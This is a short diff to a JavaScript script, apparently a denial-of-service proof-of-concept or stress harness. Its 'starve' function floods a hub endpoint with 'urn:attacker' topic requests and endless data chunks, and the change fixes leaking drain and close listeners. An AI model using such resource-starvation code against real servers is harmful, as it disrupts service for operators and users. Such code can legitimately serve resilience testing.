@@ -172,7 +172,13 @@ async function starve(i) {
     sock.write(`GET ${HUB}?topic=urn:attacker:${i} HTTP/1.1\r\nHost: x\r\n\r\n`);
     await until(() => sock.data.includes('\r\n\r\n') || sock.destroyed, 5000);
     while (!stopping && !sock.destroyed) {
-      if (!sock.write(chunk)) await new Promise((r) => (sock.once('drain', r), sock.once('close', r)));
+      if (!sock.write(chunk)) {
+        await new Promise((r) => {
+          const done = () => (sock.off('drain', done), sock.off('close', done), r());
+          sock.on('drain', done);
+          sock.on('close', done);
+        });
+      }
       stats.bytes += chunk.length;
     }
     if (sock.destroyed) stats.cut++;
